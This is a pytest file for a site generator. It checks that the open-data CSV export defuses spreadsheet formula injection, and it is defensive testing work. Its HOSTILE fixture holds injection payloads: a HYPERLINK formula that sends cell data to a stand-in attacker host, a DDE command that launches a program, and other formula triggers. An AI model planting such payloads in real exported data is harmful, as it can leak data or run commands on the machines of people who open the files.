"""The open data cannot attack whoever opens it: no cell of spaces.csv is a spreadsheet formula."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from sitegen.build import build_site
from support import FIXTURES_DIR

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "street": "+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)",
    "postcode": "-2+3",
}


@pytest.fixture(scope="module")
def output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("opendata")
    shutil.copytree(FIXTURES_DIR / "minimal", root / "content")
    (root / "content" / "spaces" / "atelier-een" / "space.yaml").write_text(
        f"name: '{HOSTILE['name']}'\nkind: shared-workspace\nsmart_role: manages\naccess: members\n"
        f"address:\n  street: \"{HOSTILE['street']}\"\n  postcode: \"{HOSTILE['postcode']}\"\n"
        f"  city: \"{HOSTILE['city']}\"\n  country: BE\ngeo: {{lat: -33.5, lon: -3.70379}}\n"
        "contact:\n  phone: \"+32 2 123 45 67\"\n", encoding="utf-8")
    build_site(root / "content", root / "output", "https://example.org/")
    return root / "output"


@pytest.mark.slow
def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe(output: Path) -> None:
    [row] = list(csv.DictReader(io.StringIO((output / "data" / "spaces.csv").read_text(encoding="utf-8"))))
    assert row["name_nl"] == row["name_fr"] == "'" + HOSTILE["name"]
    assert row["street"] == "'" + HOSTILE["street"]
    assert row["city_nl"] == row["city_fr"] == "'" + HOSTILE["city"]
    assert row["postcode"] == "'" + HOSTILE["postcode"]
    assert row["phone"] == "'+32 2 123 45 67"
    assert (row["lat"], row["lon"]) == ("-33.5", "-3.70379"), "coordinates stay numbers"
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                and cell not in (row["lat"], row["lon"])]


def test_the_json_keeps_the_values_as_they_are(output: Path) -> None:
    [record] = json.loads((output / "data" / "spaces.json").read_text(encoding="utf-8"))["spaces"]
    assert record["name_nl"] == HOSTILE["name"] and record["street"] == HOSTILE["street"]
    assert record["lon"] == -3.70379


@pytest.mark.parametrize("lang, page, words", [("nl", "nl/open-data/index.html", "nooit als formule uitvoert"),
                                               ("fr", "fr/donnees-ouvertes/index.html", "jamais comme une formule")])
def test_the_open_data_page_says_so(output: Path, lang: str, page: str, words: str) -> None:
    assert words in (output / page).read_text(encoding="utf-8")
